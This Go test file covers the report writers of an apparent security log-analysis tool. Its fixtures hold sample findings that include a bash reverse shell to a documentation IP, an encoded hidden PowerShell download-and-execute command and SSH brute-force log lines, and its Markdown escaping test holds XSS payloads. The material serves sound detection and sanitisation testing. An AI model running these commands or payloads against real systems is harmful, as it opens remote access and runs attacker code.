package report

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loupe-sec/loupe/internal/finding"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

var base = time.Date(2024, 5, 1, 10, 0, 1, 0, time.UTC)

// fixture is a small fixed set of findings across tactics and priorities,
// deliberately out of report order.
func fixture() []*finding.Finding {
	return []*finding.Finding{
		{
			ID: "a1b2c3d4e5f60718", Tactic: "Persistence", TacticID: "TA0003",
			Techniques: []finding.Technique{{ID: "T1543.003", Name: "Create or Modify System Process: Windows Service"}},
			Question:   "What is the persistence mechanism?",
			Conclusion: `On WS01 at 2019-03-19 23:34:17 UTC, user alice installed service "PSEXESVC" running %SystemRoot%\PSEXESVC.exe (rule "Service installed", T1543.003 Create or Modify System Process: Windows Service).`,
			Priority:   finding.Medium,
			Rule:       finding.Rule{ID: "loupe-win-service-install", Title: "Service installed", Author: "loupe"},
			Source:     "rule", Host: "WS01", User: "alice",
			First: time.Date(2019, 3, 19, 23, 34, 17, 0, time.UTC), Last: time.Date(2019, 3, 19, 23, 34, 17, 0, time.UTC),
			Count:    1,
			Evidence: []finding.Evidence{{RecordID: "rec-7045", Index: "idx-win", Line: 42, Time: time.Date(2019, 3, 19, 23, 34, 17, 0, time.UTC), Host: "WS01", User: "alice", Summary: "A service was installed in the system."}},
		},
		{
			ID: "0f1e2d3c4b5a6978", Tactic: "Credential Access", TacticID: "TA0006",
			Techniques: []finding.Technique{{ID: "T1110.001", Name: "Brute Force: Password Guessing"}},
			Question:   "Which credentials were accessed or stolen, and how?",
			Conclusion: `On web01 between 2024-05-01 10:00:01 and 10:01:03 UTC, 198.51.100.23 made 15 failed SSH logon attempts, then logged in successfully as root; 16 events in total, involving accounts admin and oracle (rule "Brute force then successful logon", T1110.001 Brute Force: Password Guessing).`,
			Priority:   finding.Critical,
			Rule:       finding.Rule{ID: "loupe-bruteforce-success", Title: "Brute force then successful logon", Author: "loupe", Link: "https://attack.mitre.org/techniques/T1110/001/"},
			Source:     "correlation", Host: "web01",
			First: base, Last: base.Add(62 * time.Second), Count: 16,
			Evidence: []finding.Evidence{
				{RecordID: "fail-0", Line: 1, Time: base, Host: "web01", User: "root", Summary: "Failed password for root from 198.51.100.23 port 4242 ssh2"},
				{RecordID: "fail-1", Line: 2, Time: base.Add(28 * time.Second), Host: "web01", User: "admin", Summary: "Failed password for admin from 198.51.100.23 port 4242 ssh2"},
				{RecordID: "fail-2", Line: 3, Time: base.Add(56 * time.Second), Host: "web01", User: "oracle", Summary: "Failed password for oracle from 198.51.100.23 port 4242 ssh2"},
				{RecordID: "ok-1", Line: 20, Time: base.Add(62 * time.Second), Host: "web01", User: "root", Summary: "Accepted password for root from 198.51.100.23 port 4243 ssh2"},
			},
		},
		{
			ID: "1122334455667788", Tactic: "Execution", TacticID: "TA0002",
			Techniques: []finding.Technique{{ID: "T1059.001", Name: "Command and Scripting Interpreter: PowerShell"}},
			Question:   "What was executed on the compromised systems?",
			Conclusion: `On WS01, user bob ran an encoded PowerShell command 7 times between 2024-05-01 10:00:01 and 10:30:01 UTC; the first 2 events are linked (rule "Encoded PowerShell", T1059.001 Command and Scripting Interpreter: PowerShell).`,
			Priority:   finding.High,
			Rule:       finding.Rule{ID: "5b40a734-99b6-4b98-a1d0-1cea51a08ab2", Title: "Encoded PowerShell", Author: "Sigma community", Link: "https://github.com/SigmaHQ/sigma"},
			Source:     "sigma", Host: "WS01", User: "bob",
			First: base, Last: base.Add(30 * time.Minute), Count: 7,
			Evidence: []finding.Evidence{
				{RecordID: "ps-1", Index: "idx-win", Time: base, Host: "WS01", User: "bob", Summary: "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA"},
				{RecordID: "ps-2", Index: "idx-win", Time: base.Add(5 * time.Minute), Host: "WS01", User: "bob", Summary: "powershell.exe -enc JABjAD0A"},
			},
		},
		{
			ID: "99aa88bb77cc66dd", Tactic: "Execution", TacticID: "TA0002",
			Question:   "What was executed on the compromised systems?",
			Conclusion: `On web01 at 2024-05-01 10:02:00 UTC, user www-data ran a reverse shell "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" (rule "Reverse shell").`,
			Priority:   finding.High,
			Rule:       finding.Rule{ID: "loupe-reverse-shell", Title: "Reverse shell"},
			Source:     "falco", Host: "web01", User: "www-data",
			First: base.Add(119 * time.Second), Last: base.Add(119 * time.Second), Count: 1,
			Evidence: []finding.Evidence{{RecordID: "falco-9", Time: base.Add(119 * time.Second), Host: "web01", User: "www-data", Summary: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}},
		},
	}
}

func fixtureSummary() Summary {
	return Summary{
		Inputs:   []string{"auth.log", "security.jsonl.gz"},
		Events:   1234567,
		Bytes:    987654321,
		BadLines: 3,
		Findings: 4,
		Started:  time.Date(2024, 5, 2, 8, 0, 0, 0, time.UTC),
		Duration: 4321 * time.Millisecond,
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (run go test -update if intended)\n--- got ---\n%s", name, path, got)
	}
}

func agentOutput(t *testing.T, form Form, keepalive bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	a := NewAgentWriter(&buf, form)
	if keepalive {
		if err := a.Keepalive(); err != nil {
			t.Fatal(err)
		}
	}
	for i, f := range fixture() {
		if err := a.WriteFinding(f); err != nil {
			t.Fatal(err)
		}
		if i == 1 {
			if err := a.WriteError("line 12: invalid JSON: unexpected end of input"); err != nil {
				t.Fatal(err)
			}
		}
		if keepalive {
			if err := a.Keepalive(); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGoldenLines(t *testing.T) { golden(t, "lines", agentOutput(t, FormLines, false)) }

func TestGoldenSummaries(t *testing.T) { golden(t, "summaries", agentOutput(t, FormSummaries, false)) }

func TestGoldenJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, fixture(), fixtureSummary()); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.json", buf.Bytes())
	var back struct {
		Summary  map[string]any     `json:"summary"`
		Findings []*finding.Finding `json:"findings"`
	}
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if len(back.Findings) != 4 || back.Findings[1].Priority != finding.Critical || back.Summary["duration_seconds"] != 4.321 {
		t.Errorf("JSON report does not round-trip: %+v", back.Summary)
	}
	if bp, _ := back.Summary["by_priority"].(map[string]any); bp["high"] != 2.0 || bp["critical"] != 1.0 {
		t.Errorf("by_priority not counted from findings: %v", back.Summary["by_priority"])
	}
}

func TestGoldenText(t *testing.T) {
	var buf bytes.Buffer
	if err := Text(&buf, fixture(), fixtureSummary()); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.txt", buf.Bytes())
	out := buf.String()
	// Kill-chain order: Execution before Persistence before Credential Access.
	ex, pe, ca := strings.Index(out, "== Execution"), strings.Index(out, "== Persistence"), strings.Index(out, "== Credential Access")
	if !(ex >= 0 && ex < pe && pe < ca) {
		t.Errorf("tactics out of kill-chain order: %d %d %d", ex, pe, ca)
	}
	for i, line := range strings.Split(out, "\n") {
		if n := len([]rune(line)); n > textWidth && strings.Contains(strings.TrimSpace(line), " ") {
			t.Errorf("line %d is %d columns and could have been wrapped: %q", i+1, n, line)
		}
	}
}

func TestGoldenMarkdown(t *testing.T) {
	var buf bytes.Buffer
	if err := Markdown(&buf, fixture(), fixtureSummary()); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.md", buf.Bytes())
}

func TestSummariesStreamDecodesLikeRawDecode(t *testing.T) {
	out := agentOutput(t, FormSummaries, true)
	// The LogAnalyzer decodes from the first byte without skipping
	// whitespace: the object must start the response.
	if !bytes.HasPrefix(out, []byte(`{"summaries":[`)) {
		t.Fatalf("stream does not start with the summaries object: %q", out[:min(len(out), 40)])
	}
	if !bytes.Contains(out, []byte("\n\n")) {
		t.Fatalf("keepalives not interleaved: %q", out)
	}
	// raw_decode: one value, then only whitespace.
	dec := json.NewDecoder(bytes.NewReader(out))
	var resp struct {
		Summaries []struct {
			Error      *string `json:"error"`
			LogRecords []struct {
				RecordID string `json:"record_id"`
			} `json:"log_records"`
			Annotations []struct {
				Question    string   `json:"investigative_question"`
				Conclusions []string `json:"conclusions"`
				Priority    string   `json:"priority"`
				AttackStage string   `json:"attack_stage"`
			} `json:"annotations"`
		} `json:"summaries"`
	}
	if err := dec.Decode(&resp); err != nil {
		t.Fatalf("decode: %v\n%s", err, out)
	}
	if rest := bytes.TrimSpace(out[dec.InputOffset():]); len(rest) != 0 {
		t.Fatalf("data after the summaries object: %q", rest)
	}
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatalf("the whole response is not one JSON value: %v", err)
	}
	fx := fixture()
	if len(resp.Summaries) != len(fx)+1 {
		t.Fatalf("got %d summaries, want %d findings and 1 error", len(resp.Summaries), len(fx))
	}
	j := 0
	for _, s := range resp.Summaries {
		if s.Error != nil {
			if len(s.LogRecords) != 0 || !strings.Contains(*s.Error, "line 12") {
				t.Errorf("error element: %+v", s)
			}
			continue
		}
		f := fx[j]
		j++
		if len(s.LogRecords) != len(f.Evidence) || s.LogRecords[0].RecordID != f.Evidence[0].RecordID {
			t.Errorf("finding %s: log_records %+v", f.ID, s.LogRecords)
		}
		if len(s.Annotations) != 1 {
			t.Fatalf("finding %s: %d annotations", f.ID, len(s.Annotations))
		}
		a := s.Annotations[0]
		if a.Question != f.Question || len(a.Conclusions) != 1 || a.Conclusions[0] != f.Conclusion ||
			a.Priority != summariesPriority(f.Priority) || a.AttackStage != f.Tactic {
			t.Errorf("finding %s: annotation %+v", f.ID, a)
		}
	}
}

func TestSummariesEmptyAndKeepaliveFirst(t *testing.T) {
	var buf bytes.Buffer
	a := NewAgentWriter(&buf, FormSummaries)
	if buf.Len() != 0 {
		t.Fatal("constructor wrote")
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	var v map[string][]any
	if err := json.Unmarshal(buf.Bytes(), &v); err != nil || v["summaries"] == nil || len(v["summaries"]) != 0 {
		t.Errorf("empty stream %q: %v %v", buf.String(), v, err)
	}
	if err := a.WriteFinding(fixture()[0]); !errors.Is(err, ErrClosed) {
		t.Errorf("write after Close: %v", err)
	}
}

// countingWriter records each Write so the one-write-per-call contract can
// be checked.
type countingWriter struct {
	writes [][]byte
}

func (c *countingWriter) Write(p []byte) (int, error) {
	c.writes = append(c.writes, append([]byte(nil), p...))
	return len(p), nil
}

func TestLinesFormEachLineValid(t *testing.T) {
	var cw countingWriter
	a := NewAgentWriter(&cw, FormLines)
	fx := fixture()
	wantLines := 0
	for _, f := range fx {
		before := len(cw.writes)
		if err := a.WriteFinding(f); err != nil {
			t.Fatal(err)
		}
		if len(cw.writes) != before+1 {
			t.Errorf("finding %s took %d writes, want 1", f.ID, len(cw.writes)-before)
		}
		wantLines += len(f.Evidence)
	}
	if err := a.Keepalive(); err != nil {
		t.Fatal(err)
	}
	if got := cw.writes[len(cw.writes)-1]; string(got) != "\n" {
		t.Errorf("keepalive wrote %q", got)
	}
	if err := a.WriteError(`line 12: invalid JSON "x"`); err != nil {
		t.Fatal(err)
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	all := bytes.Join(cw.writes, nil)
	lines, errLines := 0, 0
	for _, line := range bytes.Split(all, []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("invalid JSON line %q: %v", line, err)
		}
		if e, ok := m["error"]; ok {
			errLines++
			if e != `line 12: invalid JSON "x"` {
				t.Errorf("error line %v", m)
			}
			continue
		}
		lines++
		if id, _ := m["record_id"].(string); id == "" {
			t.Errorf("line without record_id: %s", line)
		}
		anns, _ := m["annotations"].([]any)
		if len(anns) != 1 {
			t.Fatalf("annotations: %s", line)
		}
		ann := anns[0].(map[string]any)
		for _, k := range []string{"investigative_question", "conclusions", "priority", "attack_stage"} {
			if _, ok := ann[k]; !ok {
				t.Errorf("annotation lacks %s: %s", k, line)
			}
		}
		if p := ann["priority"]; p != "low" && p != "medium" && p != "high" {
			t.Errorf("priority %v is not a Timesketch priority", p)
		}
		idx, hasIdx := m["_index"]
		tsIdx, hasTS := m["__ts_index_name"]
		if hasIdx != hasTS || idx != tsIdx || (hasIdx && idx == "") {
			t.Errorf("index keys must both be present and equal, or both absent: %s", line)
		}
		lm, _ := m["loupe"].(map[string]any)
		for _, k := range []string{"finding_id", "rule", "techniques", "priority", "count", "source"} {
			if _, ok := lm[k]; !ok {
				t.Errorf("loupe block lacks %s: %s", k, line)
			}
		}
	}
	if lines != wantLines || errLines != 1 {
		t.Errorf("got %d finding lines and %d error lines, want %d and 1", lines, errLines, wantLines)
	}
}

func TestFindingWithoutRecordIDsWritesNothing(t *testing.T) {
	for _, form := range []Form{FormLines, FormSummaries} {
		var cw countingWriter
		a := NewAgentWriter(&cw, form)
		f := fixture()[0]
		f.Evidence = []finding.Evidence{{Summary: "no id"}}
		if err := a.WriteFinding(f); err != nil {
			t.Fatal(err)
		}
		if len(cw.writes) != 0 {
			t.Errorf("%v: wrote %q", form, cw.writes)
		}
	}
}

func TestParseForm(t *testing.T) {
	for in, want := range map[string]Form{"": FormLines, "lines": FormLines, "Summaries": FormSummaries} {
		got, err := ParseForm(in)
		if err != nil || got != want {
			t.Errorf("ParseForm(%q) = %v, %v", in, got, err)
		}
	}
	if _, err := ParseForm("xml"); err == nil {
		t.Error("ParseForm accepted xml")
	}
}

func TestMarkdownEscapesHostileInput(t *testing.T) {
	f := fixture()[3]
	f.Tactic = "Execution"
	f.Conclusion = "user **root** ran <script>alert(1)</script> | cat [x](javascript:alert(1)) `id`"
	f.Evidence = []finding.Evidence{{RecordID: "r|1", Host: "h*st", Summary: "a | b\n# heading <img src=x onerror=alert(1)>"}}
	f.Rule = finding.Rule{ID: "x", Title: "Evil [title]", Link: "javascript:alert(1)"}
	var buf bytes.Buffer
	if err := Markdown(&buf, []*finding.Finding{f}, Summary{Events: 10}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, bad := range []string{"<script>", "<img", "**root**", "\n# heading", "`id`", "[title]"} {
		if strings.Contains(out, bad) {
			t.Errorf("markdown contains unescaped %q:\n%s", bad, out)
		}
	}
	for _, want := range []string{`&lt;script&gt;`, `\*\*root\*\*`, `\|`, `r\|1`, `h\*st`, `Evil \[title\]`, `\[x\](javascript`} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown lacks %q:\n%s", want, out)
		}
	}
	// Every evidence table row must have exactly 5 unescaped pipes.
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "| r") {
			if n := strings.Count(line, "|") - strings.Count(line, `\|`); n != 5 {
				t.Errorf("table row has %d cell separators: %q", n, line)
			}
		}
	}
}

func TestNoFindings(t *testing.T) {
	for name, write := range map[string]func(*bytes.Buffer) error{
		"text":     func(b *bytes.Buffer) error { return Text(b, nil, Summary{Events: 4200}) },
		"markdown": func(b *bytes.Buffer) error { return Markdown(b, nil, Summary{Events: 4200}) },
	} {
		var buf bytes.Buffer
		if err := write(&buf); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(buf.String(), "No findings in 4,200 events.") {
			t.Errorf("%s: %s", name, buf.String())
		}
	}
	var buf bytes.Buffer
	if err := JSON(&buf, nil, Summary{Events: 1}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"findings": []`) {
		t.Errorf("JSON without findings: %s", buf.String())
	}
}

func TestWrap(t *testing.T) {
	long := strings.Repeat("word ", 60) + strings.Repeat("x", 150) + " end"
	var buf bytes.Buffer
	bw := bufioWriter(&buf)
	writeWrapped(bw, long, "    ")
	bw.Flush()
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) < 4 {
		t.Fatalf("not wrapped: %q", buf.String())
	}
	for i, l := range lines {
		if i > 0 && !strings.HasPrefix(l, "    ") {
			t.Errorf("continuation line %d not indented: %q", i, l)
		}
		if len(l) > textWidth && strings.Contains(strings.TrimSpace(l), " ") {
			t.Errorf("line %d too long: %d", i, len(l))
		}
	}
	if got := strings.Join(strings.Fields(buf.String()), " "); got != strings.Join(strings.Fields(long), " ") {
		t.Errorf("wrapping changed the words")
	}
}

func BenchmarkAgentLines(b *testing.B) {
	a := NewAgentWriter(discard{}, FormLines)
	f := fixture()[1]
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		if err := a.WriteFinding(f); err != nil {
			b.Fatal(err)
		}
		n += len(f.Evidence)
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

func bufioWriter(b *bytes.Buffer) *bufio.Writer { return bufio.NewWriter(b) }

func TestSummariesPriorityVocabulary(t *testing.T) {
	// Timesketch's LogAnalyzer labels questions only for "notice" and
	// "critical"; "medium" is accepted without a label.
	for p, want := range map[finding.Priority]string{
		finding.Info: "notice", finding.Low: "notice", finding.Medium: "medium",
		finding.High: "critical", finding.Critical: "critical",
	} {
		if got := summariesPriority(p); got != want {
			t.Errorf("summariesPriority(%s) = %q, want %q", p, got, want)
		}
	}
}
